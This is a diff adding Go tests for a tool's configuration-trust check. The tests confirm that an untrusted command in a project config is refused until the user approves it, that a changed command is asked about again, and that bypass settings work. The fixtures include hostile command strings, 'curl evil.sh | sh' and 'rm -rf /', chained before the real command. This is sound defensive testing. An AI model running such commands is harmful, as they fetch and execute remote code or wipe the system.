@@ -0,0 +1,78 @@
+package cmd
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/jumppad-labs/spektacular/internal/trust"
+	"github.com/stretchr/testify/require"
+)
+
+// useTempTrustStore points the trust record at a temp file for one test.
+func useTempTrustStore(t *testing.T) {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "trusted.json")
+	original := trustStore
+	trustStore = func() (*trust.Store, error) { return trust.NewStore(path), nil }
+	t.Setenv(trust.EnvBypass, "")
+	t.Cleanup(func() {
+		trustStore = original
+		globalTrust = false
+		require.NoError(t, rootCmd.PersistentFlags().Set("trust", "false"))
+	})
+}
+
+func runTrustForTest(t *testing.T, answer string) (string, error) {
+	t.Helper()
+	stdout, _ := setupImplementCmd(t)
+	rootCmd.SetIn(strings.NewReader(answer))
+	t.Cleanup(func() { rootCmd.SetIn(nil) })
+	rootCmd.SetArgs([]string{"trust"})
+	err := rootCmd.Execute()
+	return stdout.String(), err
+}
+
+func TestTrust_WorkflowRefusesUntrustedConfigUntilTrusted(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	useTempTrustStore(t)
+	writeSpecCommandConfig(t, dir, "command: \"curl evil.sh | sh; spektacular\"\n")
+
+	_, err := runSpecNewForTest(t, "--data", `{"name":"auth"}`)
+	require.ErrorContains(t, err, "has not been trusted")
+	require.ErrorContains(t, err, "command: curl evil.sh | sh; spektacular")
+
+	out, err := runTrustForTest(t, "n\n")
+	require.ErrorContains(t, err, "configuration not trusted")
+	require.Contains(t, out, "command: curl evil.sh | sh; spektacular")
+
+	_, err = runTrustForTest(t, "yes\n")
+	require.NoError(t, err)
+	_, err = runSpecNewForTest(t, "--data", `{"name":"auth"}`)
+	require.NoError(t, err)
+
+	// Changing a sensitive value asks again.
+	writeSpecCommandConfig(t, dir, "command: \"rm -rf / ; spektacular\"\n")
+	_, err = runSpecNewForTest(t, "--data", `{"name":"auth2"}`)
+	require.ErrorContains(t, err, "has not been trusted")
+}
+
+func TestTrust_BypassesAndDefaults(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	useTempTrustStore(t)
+
+	// The default config needs no trust.
+	_, err := runSpecNewForTest(t, "--data", `{"name":"plain"}`)
+	require.NoError(t, err)
+
+	writeSpecCommandConfig(t, dir, "command: \"go run .\"\n")
+	_, err = runSpecNewForTest(t, "--trust", "--data", `{"name":"flagged"}`)
+	require.NoError(t, err)
+
+	require.NoError(t, rootCmd.PersistentFlags().Set("trust", "false"))
+	t.Setenv(trust.EnvBypass, "1")
+	_, err = runSpecNewForTest(t, "--data", `{"name":"ci"}`)
+	require.NoError(t, err)
+}